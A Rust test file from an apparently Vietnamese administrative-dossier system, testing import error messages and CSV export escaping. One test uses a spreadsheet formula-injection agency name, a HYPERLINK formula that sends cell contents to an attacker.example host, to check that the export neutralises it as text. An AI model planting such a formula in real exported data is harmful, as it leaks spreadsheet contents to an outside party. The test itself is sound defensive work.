        DOSSIER_HEADER.trim_end(),
        "000.01.21.H49-240304-0001,1.004227,000.01.21.H49,online,2024-03-04T08:15:00+07:00,,",
        "000.01.21.H49-240304-0002,1.004227,000.01.21.H49,by pigeon,2024-03-04T08:20:00+07:00,,",
    ];
    for ending in ["\n", "\r\n", "\r"] {
        let text = lines.join(ending) + ending;
        let (_, line, field, _) = import_error(&store, "dossiers.csv", &text);
        assert_eq!((line, field.as_str()), (3, "channel"), "{ending:?}");
        // A quoted reason over two lines: the next record starts on line 4.
        let events = [
            EVENT_HEADER.trim_end(),
            "000.01.21.H49-240304-0009,2024-03-05T08:00:00+07:00,refuse,,\"Thiếu:",
            "- bản sao\",,,",
            "000.01.21.H49-240304-0009,2024-03-05T09:00:00+07:00,fly,,,,,",
        ]
        .join(ending);
        let (_, line, field, _) = import_error(&store, "events.csv", &events);
        assert_eq!((line, field.as_str()), (4, "action"), "{ending:?}");
        let jsonl = [
            r#"{"code": "000.01.21.H49-240304-0001", "procedure": "1.004227", "agency": "000.01.21.H49", "channel": "online", "received_at": "2024-03-04T08:15:00+07:00"}"#,
            "",
            r#"{"code": "000.01.21.H49-240304-0002", "procedure": "1.004227", "agency": "000.01.21.H49", "channel": "pigeon", "received_at": "2024-03-04T08:20:00+07:00"}"#,
        ]
        .join(ending);
        let (_, line, field, _) = import_error(&store, "dossiers.jsonl", &jsonl);
        assert_eq!((line, field.as_str()), (3, "channel"), "{ending:?}");
    }
    assert_eq!(store.dossiers().len(), 0);
}

/// Issue 13 item 11: a missing file names its path and the reason.
#[test]
fn a_missing_import_file_names_its_path() {
    let store = Store::temporary().unwrap();
    let path = Path::new("/nonexistent-cchc-dir/agencies.csv");
    let error = io::import_file(&store, path).unwrap_err();
    let text = error.to_string();
    assert!(text.starts_with("/nonexistent-cchc-dir/agencies.csv: cannot open: "), "{text}");
    assert!(matches!(error, Error::File { action: "open", .. }), "{error:?}");
}

/// Issue 13 item 6, end to end: an agency named as a formula is imported, reported
/// under its name, and comes out of the CSV as text.
#[test]
fn an_agency_named_as_a_formula_comes_out_of_the_report_csv_as_text() {
    let store = Store::temporary().unwrap();
    let name = r#"=HYPERLINK("http://attacker.example/?x="&A2,"x")"#;
    let agencies =
        format!("code,name,kind\n000.00.00.H49,\"{}\",province\n", name.replace('"', "\"\""));
    io::import_reader(
        &store,
        agencies.as_bytes(),
        "agencies.csv",
        Format::Csv,
        RecordType::Agencies,
        1,
    )
    .unwrap();
    let province = store.agencies().get(&cchc::AgencyCode::new("000.00.00.H49").unwrap()).unwrap();
    let province = province.unwrap();
    assert_eq!(province.name(), name);
    let row = io::report::ReportRow {
        scope: province.name().to_owned(),
        report: store
            .report(&Scope::subtree(province.code()), Period::year(2024).unwrap())
            .unwrap(),
    };
    let mut out = Vec::new();
    io::report::write_csv(&mut out, &[row]).unwrap();
    let mut reader = csv::Reader::from_reader(out.as_slice());
    let record = reader.records().next().unwrap().unwrap();
    assert_eq!(&record[0], format!("'{name}"));
    assert_eq!(&record[4], "0");
}

/// Issue 13 item 11: a store held by another handle names the path and the reason
/// (it printed only `storage error`).
#[test]
fn a_store_held_elsewhere_names_its_path_and_the_reason() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("held");
    let _first = Store::open(&path).unwrap();
    let Err(error) = Store::open(&path) else {
        panic!("a second handle opened a held store");
    };
    let text = error.to_string();
    assert!(matches!(error, Error::File { action: "open the store", .. }), "{error:?}");
    assert!(text.contains("could not acquire lock"), "{text}");
    assert!(text.contains(&path.display().to_string()), "{text}");
}
